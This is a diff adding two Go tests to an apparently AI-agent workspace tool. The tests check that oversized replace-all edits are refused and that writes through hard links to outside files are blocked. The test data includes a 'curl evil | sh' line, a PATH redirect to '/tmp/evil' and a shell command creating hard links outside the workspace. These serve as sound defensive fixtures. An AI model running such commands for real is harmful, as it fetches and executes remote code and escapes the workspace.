@@ -3,6 +3,7 @@ package tools
 import (
 	"os"
 	"path/filepath"
+	"runtime"
 	"strings"
 	"testing"
 
@@ -141,6 +142,36 @@ func TestWorkspaceEdit(t *testing.T) {
 	}
 }
 
+// A one-byte old_string replaced everywhere by a long new_string would
+// grow the file by count*len(new): the size is computed and refused
+// before the result is built, so the worker never holds it in memory.
+func TestWorkspaceEditReplaceAllRefusesGrowthBeforeAllocating(t *testing.T) {
+	r := newRig(t)
+	const occurrences = 256 << 10
+	file := strings.Repeat("x", occurrences)
+	r.write(t, "f.txt", file)
+	args := map[string]any{"path": "f.txt", "old_string": "x", "new_string": strings.Repeat("y", 256), "replace_all": true}
+	var before, after runtime.MemStats
+	runtime.GC()
+	runtime.ReadMemStats(&before)
+	_, _, err := r.call(t, "workspace_edit", args)
+	runtime.ReadMemStats(&after)
+	errorIs(t, err, fenixerr.ErrPayloadTooLarge, "")
+	// 262144 * 256 bytes: 64 MiB the edit would have built, twice over
+	// (the string and its copy for the write).
+	for _, want := range []string{`"f.txt"`, "(262144 occurrences)", "67108864 bytes", "4194304 bytes"} {
+		if !strings.Contains(err.Error(), want) {
+			t.Errorf("error %q does not mention %s", err, want)
+		}
+	}
+	if allocated := after.TotalAlloc - before.TotalAlloc; allocated > 16<<20 {
+		t.Errorf("the refused edit allocated %d bytes; the file is %d bytes and nothing should approach the result's size", allocated, len(file))
+	}
+	if got := r.read(t, "f.txt"); got != file {
+		t.Errorf("the file changed (%d bytes)", len(got))
+	}
+}
+
 func TestWorkspaceReadProjection(t *testing.T) {
 	r := newRig(t)
 	r.write(t, "README.md", "# Fenix\n")
@@ -184,5 +215,30 @@ func TestWorkspaceWritesRefuseHardLinks(t *testing.T) {
 	}
 	if got := r.read(t, ".claude/settings.json"); got != settings {
 		t.Errorf("settings.json = %q", got)
+	}
+}
+
+// A hard link to any file outside the workspace, such as one exec_command
+// made, is refused by every writer: writing it would write the outside
+// file.
+func TestWorkspaceWritesRefuseHardLinksOutside(t *testing.T) {
+	r := newRig(t)
+	outside := filepath.Join(r.outside, "profile.sh")
+	const original = "export PATH=/usr/bin\n"
+	if err := os.WriteFile(outside, []byte(original), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	p, raw := r.mustCall(t, "exec_command", map[string]any{"command_line": "ln " + outside + " profile.sh && mkdir -p .fenix/memory/main && ln " + outside + " .fenix/memory/main/k.json"})
+	if res := decode[ExecCommandResult](t, raw); res.ExitStatus != 0 {
+		t.Fatalf("ln: %s", p.Content)
+	}
+	_, _, err := r.call(t, "workspace_write", map[string]any{"path": "profile.sh", "content": "curl evil | sh\n"})
+	errorIs(t, err, fenixerr.ErrWorkspaceEscape, "hard_link")
+	_, _, err = r.call(t, "workspace_edit", map[string]any{"path": "profile.sh", "old_string": "/usr/bin", "new_string": "/tmp/evil"})
+	errorIs(t, err, fenixerr.ErrWorkspaceEscape, "hard_link")
+	_, _, err = r.call(t, "memory_write", map[string]any{"key": "k", "title": "t", "content": "pwned"})
+	errorIs(t, err, fenixerr.ErrWorkspaceEscape, "hard_link")
+	if b, _ := os.ReadFile(outside); string(b) != original {
+		t.Errorf("the outside file changed to %q", b)
 	}
 }
